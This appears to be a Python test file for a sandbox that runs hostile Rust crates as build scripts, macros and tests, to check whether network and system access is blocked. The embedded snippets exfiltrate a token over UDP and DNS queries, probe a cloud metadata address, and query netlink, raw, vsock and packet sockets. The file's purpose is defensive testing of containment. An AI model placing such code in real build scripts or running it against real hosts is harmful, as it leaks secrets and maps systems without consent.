"""Crates that want out: to the host's loopback, to names, to a cloud's metadata, to whatever a socket can reach."""

from __future__ import annotations

import socket

from oxidizer.cluster.promises import Promise
from tests.hostile.case import BACKENDS, Case, Evidence
from tests.hostile.forms import build_script, macro, test
from tests.hostile.stage import METADATA, interface

_TCP = """
use std::io::Read;
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

fn strike() {
    let address: SocketAddr = "ADDRESS".parse().unwrap();
    if let Ok(mut stream) = TcpStream::connect_timeout(&address, Duration::from_secs(2)) {
        let mut greeting = String::new();
        stream.read_to_string(&mut greeting).unwrap();
        told(&format!("{address} says {greeting}"));
    }
}
"""

_UDP = """
use std::net::UdpSocket;
use std::time::Duration;

fn strike() {
    let Ok(socket) = UdpSocket::bind("127.0.0.1:0") else { return };
    socket.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
    let _ = socket.send_to(b"stolen-@token@", "127.0.0.1:@udp@");
    let mut answer = [0; 100];
    if let Ok((length, _)) = socket.recv_from(&mut answer) {
        told(&format!("a datagram was answered: {}", String::from_utf8_lossy(&answer[..length])));
    }
}
"""

# What is stolen leaves as a name that is asked for, as it does past many firewalls.
_DNS = """
use std::net::UdpSocket;

fn strike() {
    let Ok(socket) = UdpSocket::bind("127.0.0.1:0") else { return };
    let mut question = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00".to_vec();
    for label in ["stolen-@token@", "example", "invalid"] {
        question.push(label.len() as u8);
        question.extend(label.bytes());
    }
    question.extend(b"\\x00\\x00\\x01\\x00\\x01");
    let _ = socket.send_to(&question, "127.0.0.1:@udp@");
    std::thread::sleep(std::time::Duration::from_millis(300));
}
"""

_ABSTRACT = """
use std::io::Read;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixStream};

fn strike() {
    let address = SocketAddr::from_abstract_name("@abstract@").unwrap();
    if let Ok(mut stream) = UnixStream::connect_addr(&address) {
        let mut greeting = String::new();
        stream.read_to_string(&mut greeting).unwrap();
        told(&format!("an abstract socket of the host says {greeting}"));
    }
}
"""

# To connect a datagram socket sends nothing: it only asks whether there is a way.
_ROUTE = f"""
fn strike() {{
    let Ok(socket) = std::net::UdpSocket::bind("0.0.0.0:0") else {{ return }};
    if socket.connect("{METADATA}:80").is_ok() {{
        told("there is a way to {METADATA}");
    }}
}}
"""

_NETLINK = """
extern "C" {
    fn socket(family: i32, kind: i32, protocol: i32) -> i32;
    fn send(socket: i32, data: *const u8, length: usize, flags: i32) -> isize;
    fn recv(socket: i32, data: *mut u8, length: usize, flags: i32) -> isize;
}

fn strike() {
    let mut question = [0u8; 32];
    question[0] = 32; // length
    question[4] = 18; // RTM_GETLINK
    question[6] = 1; // a request ...
    question[7] = 3; // ... for all
    let mut answer = vec![0u8; 1 << 16];
    let kernel = unsafe { socket(16, 3, 0) };
    unsafe { send(kernel, question.as_ptr(), question.len(), 0) };
    for _ in 0..20 {
        let length = unsafe { recv(kernel, answer.as_mut_ptr(), answer.len(), 0x40) };
        let told_of = String::from_utf8_lossy(&answer[..length.max(0) as usize]).into_owned();
        if told_of.contains("@interface@\\0") {
            return told("the kernel told of the host's interface @interface@");
        }
    }
}
"""

_SERVED = """
use std::io::Write;
use std::net::TcpListener;
use std::time::{Duration, Instant};

fn strike() {
    let Ok(listener) = TcpListener::bind("127.0.0.1:@free@") else { return };
    listener.set_nonblocking(true).unwrap();
    let began = Instant::now();
    while began.elapsed() < Duration::from_secs(1) {
        if let Ok((mut stream, _)) = listener.accept() {
            stream.write_all(b"hello host").unwrap();
            return told("a process of the host came to the crate's own service");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}
"""

_RAW = """
extern "C" {
    fn socket(family: i32, kind: i32, protocol: i32) -> i32;
}

fn strike() {
    if unsafe { socket(2, 3, 1) } >= 0 {
        told("a raw socket");
    }
}
"""

# Packet sockets come in no pairs, but only those who are let through to them hear that.
_PAIR = """
extern "C" {
    fn socketpair(family: i32, kind: i32, protocol: i32, pair: *mut i32) -> i32;
}

fn strike() {
    let mut pair = [0; 2];
    let made = unsafe { socketpair(17, 3, 0, pair.as_mut_ptr()) };
    if made == 0 || std::io::Error::last_os_error().raw_os_error() != Some(97) {
        told("packet sockets answered");
    }
}
"""

_FAMILY = """
extern "C" {
    fn socket(family: i32, kind: i32, protocol: i32) -> i32;
}

fn strike() {
    if unsafe { socket(FAMILY) } >= 0 {
        told("a socket of NAME");
    }
}
"""


def tcp_to(address: str) -> str:
    """An attack that connects to an address and hears what is said there."""
    return _TCP.replace("ADDRESS", address)


def _family(numbers: str, name: str) -> str:
    return _FAMILY.replace("FAMILY", numbers).replace("NAME", name)


def asked(evidence: Evidence) -> str | None:
    """The host's name server was asked for a name that holds the secret."""
    heard = [words for words in evidence.stage.services.heard if "stolen-" in words]
    return "a secret left as a name that was asked for" if heard else None


def _unless(family: int, kind: int, name: str) -> dict[str, str]:
    """Void everywhere where this kernel has no such sockets."""
    try:
        socket.socket(family, kind).close()
    except OSError:
        return dict.fromkeys(BACKENDS, f"this kernel has no sockets of {name}")
    return {}


_LO_ALONE = {} if interface() else dict.fromkeys(BACKENDS, "this machine has no interface but lo, as any network has")

CASES = (
    Case("tcp", Promise.NETWORK, build_script(tcp_to("127.0.0.1:@tcp@")), quick=("docker", "bubblewrap-user")),
    Case("tcp6", Promise.NETWORK, macro(tcp_to("[::1]:@tcp6@"))),
    Case("udp", Promise.NETWORK, test(_UDP), command="test"),
    Case("dns", Promise.NETWORK, build_script(_DNS), harm=asked),
    Case("abstract_socket", Promise.NETWORK, build_script(_ABSTRACT), quick=("bubblewrap",)),
    Case("metadata_route", Promise.NETWORK, build_script(_ROUTE)),
    Case("metadata_service", Promise.NETWORK, test(tcp_to(f"{METADATA}:80")), command="test", own_network=True,
         not_run={"docker": "its daemon is in the machine's own network, where nothing is sent to that address"}),
    Case("netlink", Promise.NETWORK, build_script(_NETLINK), void=_LO_ALONE),
    Case("served_to_the_host", Promise.NETWORK, test(_SERVED), command="test"),
    Case("raw_socket", Promise.CAPABILITIES, build_script(_RAW),
         void={"bubblewrap-user": "the capabilities of a user namespace reach nothing outside of it"}),
    Case("vsock", Promise.SYSTEM_CALLS, build_script(_family("40, 1, 0", "the virtual machine")),
         void=_unless(40, 1, "vsock"),
         quick=("bubblewrap",)),
    Case("socket_pair", Promise.SYSTEM_CALLS, build_script(_PAIR)),
    Case("kernel_crypto", Promise.SYSTEM_CALLS, build_script(_family("38, 5, 0", "the kernel's ciphers")),
         void=_unless(38, 5, "ciphers")),
)  # fmt: skip
